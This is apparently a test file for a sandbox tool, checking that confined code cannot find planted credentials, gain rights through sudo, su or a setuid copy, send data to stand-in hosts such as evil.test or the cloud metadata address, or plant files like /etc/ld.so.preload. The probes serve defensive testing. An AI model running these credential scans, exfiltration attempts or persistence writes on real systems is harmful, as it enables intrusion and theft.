# SPDX-License-Identifier: Apache-2.0
"""What a sandbox finds: secrets, rights, programs, and files that others will
trust."""
import os
import subprocess

from frame import check, equal, row
from lab import EVIL
from packets import readable
from sessions import left, run

# --- K12, K13, K14, K16 -----------------------------------------------------------------

SECRETS = {"AWS_SECRET_ACCESS_KEY": "c2VjcmV0-aws", "GITHUB_TOKEN": "c2VjcmV0-gh",
           "ANTHROPIC_API_KEY": "c2VjcmV0-ai", "SSH_AUTH_SOCK": "/run/c2VjcmV0-agent",
           "DOCKER_HOST": "unix:///c2VjcmV0", "SALLYPORT_KEY": "/c2VjcmV0-key"}


def look_around(words, folders):
    """Where in /proc and these folders one of the words stands."""
    found = []
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        for what in "environ", "cmdline", "auxv", "stack", "task/" + pid + "/environ":
            try:
                data = open(f"/proc/{pid}/{what}", "rb").read()
            except OSError:
                continue
            found += [(pid, what, w) for w in words if w.encode() in data]
    for folder in folders:
        for root, _, files in os.walk(folder):
            if not root.startswith(os.getcwd() + "/.") and root.startswith(os.getcwd()):
                continue  # its own
            found += [(root, f, "") for f in files]
    return found


@row("K12")
def secrets_nearby(world):
    """Credentials in the caller's environment, the signing key, the log and the
    policy by every path: no process shows them, no folder has them."""
    box = world.box("allow: [other.test, allowed.test]\n", env=SECRETS)
    folders = [box.directory, world.lab.dir, "/etc/sallyport", "/var/log/sallyport",
               "/run/sallyport", "/root/.ssh", world.case.work + "/.config/sallyport",
               world.case.work + "/.state", world.case.work + "/.local/share/sallyport"]
    equal(box.call(look_around, ["c2VjcmV0", "--log", box.policy_path], folders), [])
    equal(box.call(readable, [box.policy_path, box.log.path, f"/proc/1/cwd{box.log.path}",
                              f"/proc/self/root{box.log.path}"]), [])
    box.allowed("connect", "other.test")


@row("K13")
def more_rights(world):
    """sudo, su, a set-user-ID program that lies in the working directory: as many
    rights as before, none; no capability in any set, no_new_privs, no groups."""
    tool = world.case.work + "/setuid-id"
    subprocess.run(["cp", "/usr/bin/id", tool], check=True)
    os.chmod(tool, 0o6755)
    status, said, err = run(world, "sh", "-c", "./setuid-id; sudo -n id; su -c id </dev/null; "
                            "grep -E '^(Cap|NoNew|Groups|Uid)' /proc/self/status; id")
    os.unlink(tool)
    lines = [line for line in said.splitlines() if line.startswith("uid=")]
    check(len(lines) == 2 and lines[0] == lines[1], said, err)
    caps = [line.split()[1] for line in said.splitlines() if line.startswith("Cap")]
    equal(set(caps), {"0" * 16})
    check("NoNewPrivs:\t1" in said, said)
    check("docker" not in lines[0] and "sudo" not in lines[0], lines)


STATIC = r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
int main(int n, char **v)
{
	int bad = 0;
	for (int i = 1; i < n; i++)
		for (int kind = SOCK_STREAM; kind <= SOCK_DGRAM; kind++) {
			struct sockaddr_in to = { .sin_family = AF_INET, .sin_port = htons(443) };
			int fd = socket(AF_INET, kind, 0);
			inet_pton(AF_INET, v[i], &to.sin_addr);
			if (connect(fd, (void *)&to, sizeof(to)) == 0 &&
			    write(fd, "c2VjcmV0", 8) == 8 && kind == SOCK_STREAM)
				bad++;
			close(fd);
		}
	printf("bad %d\n", bad);
	return 0;
}
"""


@row("K14")
def a_static_program(world):
    """A static program without libc's loader, without environment: blocked as
    well; nothing was a matter of LD_PRELOAD or of proxy variables."""
    source = world.lab.write("client.c", STATIC)
    tool = world.case.work + "/client"
    subprocess.run(["cc", "-static", "-o", tool, source], check=True)
    os.chmod(tool, 0o755)
    status, said, err = run(world, "env", "-i", "./client", EVIL, "8.8.8.8", "203.0.113.1",
                            "169.254.169.254", "198.18.0.9")
    os.unlink(tool)
    equal((status, said), (0, "bad 0\n"), err)
    check(not left(world))


WRITE = """
import os
did = []
for path in {paths!r}:
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "w") as f: f.write("version: 1\\ndefault: public\\n")
        did.append(path)
    except OSError: pass
for a, b in {moves!r}:
    try: os.rename(a, b)
    except OSError: pass
print(did)
"""


@row("K16")
def files_that_are_trusted_later(world):
    """What the next session reads as policy, key or configuration, where nothing
    of it exists yet: made by the sandbox, also by way of a renamed parent, none
    is there afterwards."""
    work = world.case.work
    paths = [f"{work}/.config/sallyport/{f}" for f in ("policy.yaml", "signing.key", "daemon.yaml",
                                                       "presets/mine.yaml")]
    paths += ["/etc/sallyport/policy.yaml", "/etc/sallyport/daemon.yaml",
              "/etc/docker/plugins/sallyport.json", "/run/docker/plugins/sallyport.sock",
              "/usr/local/bin/sallyport", world.lab.dir + "/policy.yaml", "/etc/hosts",
              "/etc/resolv.conf", "/etc/ld.so.preload", "/etc/profile.d/x.sh"]
    before = {p: stamp(p) for p in paths}
    moves = [(work + "/.config", work + "/.config2"), (work + "/.config2", work + "/.config")]
    status, said, err = run(world, "python3", "-c", WRITE.format(paths=paths, moves=moves))
    equal(status, 0, err)
    equal({p: stamp(p) for p in paths}, before)
    status, said, err = run(world, "curl", "-s", "-o", "/dev/null", "-w", "%{http_code}",
                            "http://evil.test/", allow=())
    equal(said, "403", err)


def stamp(path):
    try:
        st = os.stat(path)
        return st.st_ino, st.st_mtime_ns, st.st_size
    except OSError:
        return None
